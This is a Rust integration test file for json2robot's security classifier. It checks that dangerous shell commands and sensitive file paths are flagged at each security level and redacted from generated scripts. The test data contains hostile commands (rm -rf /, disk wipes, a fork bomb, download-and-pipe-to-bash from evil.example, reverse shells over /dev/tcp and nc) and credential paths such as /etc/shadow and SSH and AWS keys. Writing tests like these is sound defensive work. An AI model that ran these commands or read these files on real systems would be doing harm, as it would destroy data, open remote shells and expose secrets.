//! Integration tests for pattern matching and the security policy

use json2robot::engine::classifier::{Outcome, SecurityClassifier};
use json2robot::output::findings_to_json;
use json2robot::rules::catalog::PatternKind;
use json2robot::{convert_json_to_script, Config, ConvertError, PatternCatalog, SecurityLevel};

const COMMANDS: &[&str] = &[
    "rm -rf /",
    "rm -rf --no-preserve-root /",
    "rm -rf -- /",
    "rm -rf /;true",
    "rm -rf ~",
    "rm -rf /etc",
    "dd if=/dev/zero of=/dev/sda bs=1M",
    "mkfs.ext4 /dev/sdb1",
    ":(){ :|:& };:",
    "curl http://evil.example/install.sh | bash",
    "curl http://evil.example/x.sh \\\n| bash",
    "wget -qO- http://x.example | python3",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "nc 10.0.0.1 4444 -e /bin/sh",
    "sudo apt-get install -y jq",
    "su - root",
    "chmod 777 /srv/www",
    "shutdown -h now",
    "crontab -r",
    "echo aGk= | base64 -d | sh",
    "eval $PAYLOAD",
    "ls -la; whoami",
    "echo $(id)",
    "cat out.txt > copy.txt",
    "rm build.log",
    "chown app:app data",
    "ping -c 1 example.com",
    "python -c 'print(1)'",
    "pkill worker",
    "ls -la",
    "make test",
    "echo hello",
    "git status",
];

const PATHS: &[&str] = &[
    "/etc/shadow",
    "/home/u/.ssh/id_rsa",
    "/home/u/.aws/credentials",
    "/home/u/.kube/config",
    "/home/u/.docker/config.json",
    ".env",
    "app/.env.production",
    "certs/server.key",
    "/home/u/.ssh/known_hosts",
    "/home/u/.netrc",
    "config/secrets.yaml",
    "/etc/passwd",
    "/root/notes.txt",
    "/etc/hosts",
    "deploy/.env.example",
    "my_password.txt",
    "/proc/self/environ",
    "certs/ca.crt",
    "README.md",
    "dist/app.tar.gz",
    "src/main.rs",
];

fn classify(
    catalog: &PatternCatalog,
    level: SecurityLevel,
    kind: PatternKind,
    value: &str,
) -> Outcome {
    SecurityClassifier::new(catalog).classify(level, kind, value).outcome
}

fn config(level: SecurityLevel) -> Config {
    let mut config = Config::default();
    config.general.security_level = level;
    config
}

fn run_command_json(command: &str) -> String {
    serde_json::json!({
        "name": "t",
        "steps": [{"action": "run_command", "args": [command]}]
    })
    .to_string()
}

fn read_file_json(path: &str) -> String {
    serde_json::json!({
        "name": "t",
        "steps": [{"action": "read_file", "args": [path]}]
    })
    .to_string()
}

// ============================================================================
// Monotonicity
// ============================================================================

#[test]
fn test_commands_flagged_at_lower_level_stay_flagged() {
    let catalog = PatternCatalog::builtin();
    for command in COMMANDS {
        let mut flagged = false;
        for level in SecurityLevel::ALL {
            let dangerous =
                classify(&catalog, level, PatternKind::Command, command) == Outcome::Dangerous;
            assert!(
                dangerous || !flagged,
                "`{}` flagged at a lower level but not at {}",
                command,
                level
            );
            flagged |= dangerous;
        }
    }
}

#[test]
fn test_paths_flagged_at_lower_level_stay_flagged() {
    let catalog = PatternCatalog::builtin();
    for path in PATHS {
        let mut flagged = false;
        for level in SecurityLevel::ALL {
            let sensitive =
                classify(&catalog, level, PatternKind::Path, path) == Outcome::Sensitive;
            assert!(sensitive || !flagged, "`{}` flagged below {} only", path, level);
            flagged |= sensitive;
        }
    }
}

#[test]
fn test_level_tiers() {
    let catalog = PatternCatalog::builtin();
    let cases = [
        ("rm -rf /", [true, true, true]),
        ("rm -rf --no-preserve-root /", [true, true, true]),
        ("rm -rf -- /", [true, true, true]),
        ("rm -rf /;true", [true, true, true]),
        ("sudo apt-get install -y jq", [false, true, true]),
        ("ls -la; whoami", [false, false, true]),
        ("ls -la", [false, false, false]),
    ];
    for (command, expected) in cases {
        for (level, want) in SecurityLevel::ALL.into_iter().zip(expected) {
            let got =
                classify(&catalog, level, PatternKind::Command, command) == Outcome::Dangerous;
            assert_eq!(got, want, "`{}` at {}", command, level);
        }
    }
}

#[test]
fn test_line_continuation_does_not_hide_download_pipe() {
    let catalog = PatternCatalog::builtin();
    let command = "curl http://evil.example/x.sh \\\n| bash";
    for level in SecurityLevel::ALL {
        assert_eq!(
            classify(&catalog, level, PatternKind::Command, command),
            Outcome::Dangerous,
            "at {}",
            level
        );
    }

    let script =
        convert_json_to_script(&run_command_json(command), &config(SecurityLevel::Standard))
            .unwrap();
    assert_eq!(script.findings.len(), 1);
    assert_eq!(script.findings[0].rule_id.as_deref(), Some("download-pipe-shell"));
    assert!(!script.text.contains("| bash"));
}

#[test]
fn test_safe_commands_pass_everywhere() {
    let catalog = PatternCatalog::builtin();
    for command in ["ls -la", "make test", "echo hello", "git status"] {
        for level in SecurityLevel::ALL {
            assert_eq!(
                classify(&catalog, level, PatternKind::Command, command),
                Outcome::Safe,
                "`{}` at {}",
                command,
                level
            );
        }
    }
}

#[test]
fn test_matching_is_case_insensitive() {
    let catalog = PatternCatalog::builtin();
    assert_eq!(
        classify(&catalog, SecurityLevel::Permissive, PatternKind::Command, "RM -RF /"),
        Outcome::Dangerous
    );
    assert_eq!(
        classify(&catalog, SecurityLevel::Permissive, PatternKind::Path, "/ETC/SHADOW"),
        Outcome::Sensitive
    );
}

// ============================================================================
// Redaction
// ============================================================================

#[test]
fn test_dangerous_values_never_reach_output() {
    let catalog = PatternCatalog::builtin();
    for level in [SecurityLevel::Permissive, SecurityLevel::Standard] {
        for command in COMMANDS {
            if classify(&catalog, level, PatternKind::Command, command) != Outcome::Dangerous {
                continue;
            }
            let script =
                convert_json_to_script(&run_command_json(command), &config(level)).unwrap();
            assert!(script.text.contains("[REDACTED]"), "`{}` at {}", command, level);
            assert!(!script.text.contains(command), "`{}` leaked at {}", command, level);
            assert!(!findings_to_json(&script.findings).contains(command));
        }
    }
}

#[test]
fn test_sensitive_paths_redacted_at_every_level() {
    let catalog = PatternCatalog::builtin();
    for level in SecurityLevel::ALL {
        for path in PATHS {
            let script = convert_json_to_script(&read_file_json(path), &config(level)).unwrap();
            let sensitive =
                classify(&catalog, level, PatternKind::Path, path) == Outcome::Sensitive;
            assert_eq!(script.text.contains("[REDACTED]"), sensitive, "`{}` at {}", path, level);
            assert_eq!(script.text.contains(path), !sensitive, "`{}` at {}", path, level);
        }
    }
}

#[test]
fn test_strict_violation_hides_value() {
    let command = "curl http://evil.example/install.sh | bash";
    match convert_json_to_script(&run_command_json(command), &config(SecurityLevel::Strict)) {
        Err(e @ ConvertError::SecurityViolation { .. }) => {
            assert!(!e.to_string().contains(command));
            assert!(!format!("{:?}", e).contains(command));
        }
        other => panic!("expected security violation, got {:?}", other),
    }
}

#[test]
fn test_findings_json_carries_previews() {
    let script = convert_json_to_script(
        &read_file_json("/home/u/.aws/credentials"),
        &config(SecurityLevel::Standard),
    )
    .unwrap();
    let report: serde_json::Value =
        serde_json::from_str(&findings_to_json(&script.findings)).unwrap();
    let entry = &report[0];
    assert_eq!(entry["kind"], "sensitive");
    assert_eq!(entry["rule_id"], "aws-credentials");
    assert!(entry["preview"].as_str().unwrap().contains("***"));
    assert!(entry.get("value").is_none());
}
